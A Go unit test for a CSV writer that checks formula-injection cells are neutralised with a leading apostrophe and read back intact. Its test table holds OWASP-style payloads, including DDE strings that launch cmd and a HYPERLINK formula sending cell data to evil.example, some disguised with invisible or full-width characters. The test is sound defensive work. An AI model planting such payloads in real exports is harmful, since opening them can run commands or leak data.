package csvio

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// TestOWASPTable runs the cells of OWASP's "CSV Injection" page, and the
// ways round it that hide the trigger (invisible characters in front,
// full-width signs), through the writer: each formula comes out as text,
// each harmless cell and each real number as it was, and every cell reads
// back through Read exactly as it went in.
func TestOWASPTable(t *testing.T) {
	tests := []struct {
		name, in string
		escaped  bool
	}{
		{"Equals", `=1+2`, true},
		{"Plus", `+1+2`, true},
		{"Minus", `-1+2`, true},
		{"At", `@SUM(1+2)`, true},
		{"Tab", "\t=1+2", true},
		{"CR", "\r=1+2", true},
		{"LF", "\n=1+2", true},
		{"DDE", `=cmd|' /C calc'!A0`, true},
		{"Hyperlink", `=HYPERLINK("http://evil.example/?"&A1,"Click")`, true},
		{"MinusDDE", `-2+3+cmd|' /C calc'!A0`, true},
		{"AtDDE", `@SUM(1+1)*cmd|' /C calc'!A0`, true},
		{"BOMThenEquals", "\ufeff=1+2", true},
		{"ZeroWidthSpaceThenEquals", "\u200b=HYPERLINK(\"http://evil.example\")", true},
		{"ZeroWidthJoinerThenPlus", "\u200d+1", true},
		{"WordJoinerThenAt", "\u2060@SUM(A1)", true},
		{"NoBreakSpaceThenMinus", "\u00a0-1+2", true},
		{"NarrowNoBreakSpaceThenEquals", "\u202f=1", true},
		{"TwoInvisiblesThenEquals", "\ufeff\u200b=1", true},
		{"FullWidthEquals", "＝1+2", true},
		{"FullWidthPlus", "＋1+2", true},
		{"FullWidthMinus", "－1+2", true},
		{"FullWidthAt", "＠SUM(1+2)", true},
		{"InvisibleThenFullWidthEquals", "\u200b＝1+2", true},
		{"InvisibleOnly", "\u200b", false},
		{"InvisibleThenText", "\u00a0Dr Smith", false},
		{"EqualsInside", "a=b", false},
		{"SpaceThenEquals", " =1", false},
		{"Apostrophe", "'Twas", false},
		{"Name", "Zoë O'Brien", false},
		{"Empty", "", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var buf bytes.Buffer
			if err := WriteRows(&buf, []string{"Cell", "Number"}, [][]string{{tt.in, "-3.5"}}); err != nil {
				t.Fatal(err)
			}
			// encoding/csv drops a CR inside a cell when it writes CRLF
			// line ends, and reads none back; the formula check is on
			// what is left.
			in := strings.ReplaceAll(tt.in, "\r", "")
			want := in
			if tt.escaped {
				want = "'" + in
			}
			recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte(bom)))).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if got := recs[1][0]; got != want {
				t.Fatalf("written as %q, want %q", got, want)
			}
			if got := recs[1][1]; got != "-3.5" {
				t.Fatalf("the number was written as %q", got)
			}
			back, err := Read(&buf)
			if err != nil {
				t.Fatal(err)
			}
			if got := back.Rows[0].Cells[0]; got != in {
				t.Fatalf("read back as %q, want %q", got, in)
			}
		})
	}
}
